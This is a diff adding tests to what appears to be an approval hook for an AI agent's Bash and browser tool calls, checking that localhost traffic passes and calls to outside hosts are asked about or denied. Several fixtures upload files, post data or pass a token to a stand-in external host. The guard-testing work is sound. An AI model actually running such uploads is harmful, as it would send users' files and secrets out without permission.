@@ -462,3 +462,25 @@ def test_approval_of_a_destination_holds_for_its_session_and_a_grant_for_none(ho
         runtime.approvals.approve(asked, Label("ada"), "fine")
     assert host.before("Bash", command="curl -F a=@b https://c.example.net/").decision is Decision.NONE
     assert host.before("Bash", command="curl -F a=@b https://d.example.net/").decision is Decision.DENY
+
+
+@rows(
+    "text, asks",
+    [
+        ("await page.goto('http://localhost:3000'); await fetch(`http://127.0.0.1:3000/login`)", False),
+        ("import requests; requests.post('http://[::1]:8000/', data=open('notes.txt'))", False),
+        ("await page.goto('http://localhost:3000'); fetch('https://c.example.net/', {body: x})", True),
+        ("fetch(process.env.TARGET)", True),
+    ],
+)
+def test_script_that_drives_this_machine_alone_is_not_asked(host: Host, text: str, asks: bool) -> None:
+    (host.project / "e2e.js").write_text(text, encoding="utf-8")
+    assert (marked(host).before("Bash", command="node e2e.js").decision is Decision.ASK) == asks
+
+
+def test_browser_at_this_machine_is_not_the_world(host: Host) -> None:
+    host.configure("hooks: {mcp: {mcp__playwright__*: read}}\n")
+    for address, asks in (("localhost:3000", False), ("[::1]:3000", False), ("c.example.net", True)):
+        url = f"http://{address}/?token=abcdefghijklmnopqrstuvwxyz"
+        verdict = marked(host).before("mcp__playwright__browser_navigate", url=url)
+        assert (verdict.decision is Decision.ASK) == asks, verdict
